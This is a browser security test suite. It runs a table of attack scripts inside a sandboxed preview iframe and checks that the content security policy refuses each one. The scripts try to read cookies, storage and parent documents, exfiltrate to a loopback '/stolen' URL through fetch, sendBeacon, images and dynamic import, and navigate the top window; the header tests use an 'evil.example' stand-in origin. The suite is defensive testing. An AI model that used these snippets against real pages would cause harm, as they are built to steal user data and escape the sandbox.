import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, Page } from '@playwright/test';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { launchChromium } from '../../support/browser.ts';
import { type LoopbackFixture, startLoopbackFixture } from '../../support/shells/loopback-fixture.ts';

// The preview frame with attack scripts instead of our code: what a bundle could do after
// exploiting a decoder. Runs in a real browser, because the browser implements the sandbox.

/** Each attack returns what it obtained, or how it was refused. */
const ATTACKS = {
  origin: `self.origin`,
  parentDocument: `parent.document.title`,
  topDocument: `top.document.title`,
  parentBridge: `String(parent.gabinet)`,
  ownBridge: `String(window.gabinet)`,
  cookie: `document.cookie`,
  storage: `String(localStorage.length)`,
  database: `new Promise((done, fail) => { const r = indexedDB.open('x'); r.onsuccess = () => done('opened'); r.onerror = () => fail(r.error); })`,
  media: `fetch('/media/bundles/1').then((r) => r.text())`,
  mediaWithoutCors: `fetch('/media/bundles/1', { mode: 'no-cors', credentials: 'include' }).then((r) => 'answered')`,
  mediaAsPicture: `new Promise((done, fail) => { const i = new Image(); i.onload = () => done('shown'); i.onerror = () => fail('no picture'); i.src = '/media/staged/1'; })`,
  mediaInWorker: `new Promise((done, fail) => { const w = new Worker(URL.createObjectURL(new Blob(['fetch("ORIGIN/media/bundles/1").then((r) => r.text()).then(postMessage, (e) => postMessage("refused " + e))'.replace('ORIGIN', location.origin === 'null' ? new URL(location.href).origin : location.origin)]))); w.onmessage = (e) => String(e.data).startsWith('refused') ? fail(e.data) : done(e.data); w.onerror = (e) => fail('no worker'); })`,
  socket: `new Promise((done, fail) => { const s = new WebSocket(location.href.replace('http', 'ws').replace('/preview.html', '/bridge')); s.onopen = () => done('open'); s.onerror = () => fail('no socket'); })`,
  elsewhere: `fetch(ELSEWHERE, { mode: 'no-cors' }).then(() => 'sent')`,
  // Always returns "queued"; the policy is applied afterwards.
  beacon: `new Promise((done, fail) => { addEventListener('securitypolicyviolation', (e) => fail(e.violatedDirective)); navigator.sendBeacon(ELSEWHERE, 'x'); })`,
  pictureElsewhere: `new Promise((done, fail) => { const i = new Image(); i.onload = () => done('sent'); i.onerror = () => fail('refused'); i.src = ELSEWHERE; })`,
  styleElsewhere: `new Promise((done, fail) => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = ELSEWHERE; l.onload = () => done('sent'); l.onerror = () => fail('refused'); document.head.append(l); })`,
  scriptElsewhere: `import(ELSEWHERE).then(() => 'ran')`,
  inlineScript: `new Promise((done, fail) => { const s = document.createElement('script'); s.textContent = 'window.inlineRan = true'; document.head.append(s); window.inlineRan ? done('ran') : fail('refused'); })`,
  evaluation: `new Function('return "ran"')()`,
  popup: `window.open('/') ? 'opened' : Promise.reject('refused')`,
  navigateTop: `(top.location.href = ELSEWHERE, 'navigated')`,
  navigateParentByMessage: `(parent.location.replace(ELSEWHERE), 'navigated')`,
  nestedPage: `new Promise((done, fail) => { const f = document.createElement('iframe'); f.src = '/'; f.onload = () => { try { done(f.contentDocument.title + '!'); } catch (error) { fail(error); } }; document.body.append(f); })`,
} as const;

type Attack = keyof typeof ATTACKS;

const frameScript = (elsewhere: string) => `
const ELSEWHERE = ${JSON.stringify(elsewhere)};
const attacks = { ${Object.entries(ATTACKS)
  .map(([name, code]) => `${name}: async () => (${code})`)
  .join(',\n')} };
addEventListener('message', async ({ data }) => {
  if (data.hang) for (;;);
  if (data.leave) location.href = ELSEWHERE;
  if (data.leaveHere) location.href = '/media/bundles/1';
  if (!data.attack) return;
  const answer = await attacks[data.attack]().then(
    (got) => ({ got: String(got) }),
    (error) => ({ refused: String(error) }),
  );
  parent.postMessage({ attack: data.attack, ...answer }, '*');
});
parent.postMessage({ attack: 'ready' }, '*');
`;

let browser: Browser;
let elsewhere: { url: string; asked: string[]; close(): void };
let shell: LoopbackFixture;
let page: Page;

beforeAll(async () => {
  browser = await launchChromium();
});
afterAll(() => browser.close());

beforeEach(async () => {
  elsewhere = await listenElsewhere();
  shell = await startLoopbackFixture({ frameScript: frameScript(elsewhere.url) });
  shell.application.picture = () => ({ bytes: PICTURE, contentType: 'image/png', immutable: false });
  page = await browser.newPage();
  await page.goto(shell.server.issueLink());
  await page.evaluate(openFrame);
});
afterEach(async () => {
  await page.close();
  await shell.close();
  elsewhere.close();
});

/** One pixel. */
const PICTURE = new Uint8Array(
  Buffer.from(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYGD4DwABBAEAfbLI3wAAAABJRU5ErkJggg==',
    'base64',
  ),
);

/** In the page: a frame like the window's, and all messages from it. */
function openFrame(): Promise<void> {
  const messages: unknown[] = [];
  const frame = document.createElement('iframe');
  frame.setAttribute('sandbox', 'allow-scripts');
  frame.src = 'preview.html';
  Object.assign(window, { messages, frame });
  return new Promise((resolve) => {
    addEventListener('message', ({ data }) => {
      messages.push(data);
      if (data.attack === 'ready') resolve();
    });
    document.body.append(frame);
  });
}

function tell(message: object): Promise<void> {
  return page.evaluate((data) => {
    (window as unknown as { frame: HTMLIFrameElement }).frame.contentWindow?.postMessage(data, '*');
  }, message);
}

async function attack(name: Attack): Promise<{ got?: string; refused?: string }> {
  await tell({ attack: name });
  const answer = await page.waitForFunction(
    (wanted) => (window as unknown as { messages: { attack: string }[] }).messages.find((one) => one.attack === wanted),
    name,
  );
  return (await answer.jsonValue()) as { got?: string; refused?: string };
}

async function listenElsewhere() {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(`${request.method} ${request.url}`);
    response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' }).end('1');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/stolen`,
    asked,
    close: () => {
      server.closeAllConnections();
      server.close();
    },
  };
}

describe('a script in the frame', () => {
  test('runs, as a document without an origin', async () => {
    expect(await attack('origin')).toMatchObject({ got: 'null' });
  });

  test('has no bridge', async () => {
    expect(await attack('ownBridge')).toMatchObject({ got: 'undefined' });
  });

  const refused = Object.keys(ATTACKS).filter((name) => name !== 'origin' && name !== 'ownBridge') as Attack[];
  test.each(refused)('%s is refused, and nothing is sent', async (name) => {
    const answer = await attack(name);
    expect(answer).toMatchObject({ refused: expect.stringMatching(/./) });
    expect(elsewhere.asked).toEqual([]);
    expect(page.url()).toBe(`${shell.origin}/`);
  });

  test.each([{ leave: true }, { leaveHere: true }])('cannot navigate the frame: %j', async (way) => {
    const blocked = page.waitForEvent('console', (message) => /content security policy/i.test(message.text()));
    const answered = page.waitForResponse((response) => response.url().includes('/media/'));
    await tell(way);
    if ('leave' in way) await blocked;
    else expect((await answered).status()).toBe(403);
    blocked.catch(() => undefined);
    answered.catch(() => undefined);
    expect(elsewhere.asked).toEqual([]);
  });
});

describe('a frame that hangs', () => {
  test('does not block the window, because it is another process, and ends when it is removed', async () => {
    await tell({ hang: true });
    const frames = await page.evaluate(async () => {
      let count = 0;
      for (; count < 20; count += 1) await new Promise((next) => requestAnimationFrame(next));
      return count;
    });
    expect(frames).toBe(20);
    await page.evaluate(() => (window as unknown as { frame: HTMLIFrameElement }).frame.remove());
    await expect.poll(() => page.frames().length).toBe(1);
    await page.evaluate(openFrame);
    expect(await attack('origin')).toMatchObject({ got: 'null' });
  });
});

describe('what the shell serves to a document without an origin', () => {
  const frameCode = { origin: 'null', 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'cors' };

  test.each(['/assets/frame-abc123.js', '/assets/shared-abc123.js'])('%s is served without a session', async (path) => {
    const answer = await shell.visit({ path, headers: frameCode });
    expect(answer.status).toBe(200);
    expect(answer.headers['access-control-allow-origin']).toBe('*');
    expect(answer.headers['set-cookie']).toBeUndefined();
  });

  test.each([
    '/',
    '/preview.html',
    '/assets/main-abc123.js',
    '/build-files.json',
    '/media/bundles/1',
    '/media/staged/1',
  ])('not %s, with or without the cookie', async (path) => {
    const cookie = await shell.enter();
    for (const headers of [frameCode, { ...frameCode, cookie }]) {
      const answer = await shell.visit({ path, headers });
      expect(answer.status).toBe(403);
      expect(answer.headers['access-control-allow-origin']).toBeUndefined();
    }
  });

  test('the frame’s files are refused to another site’s page and under another host name', async () => {
    const path = '/assets/frame-abc123.js';
    expect((await shell.visit({ path, headers: { ...frameCode, origin: 'https://evil.example' } })).status).toBe(403);
    expect((await shell.visit({ path, headers: { ...frameCode, host: 'evil.example' } })).status).toBe(403);
  });

  test('the frame’s page needs a session, has its own policy, and may be framed only by our window', async () => {
    expect((await shell.visit({ path: '/preview.html' })).status).toBe(401);
    const { headers } = await shell.visit({ path: '/preview.html', headers: { cookie: await shell.enter() } });
    const policy = String(headers['content-security-policy']);
    expect(policy).toContain('sandbox allow-scripts;');
    expect(policy).toContain("default-src 'none'");
    expect(policy).toContain('connect-src blob: data:;');
    expect(policy).toContain("frame-ancestors 'self'");
    expect(policy).not.toMatch(/unsafe-(?:inline|eval;)|https?:|ws:|allow-same-origin/);
  });
});
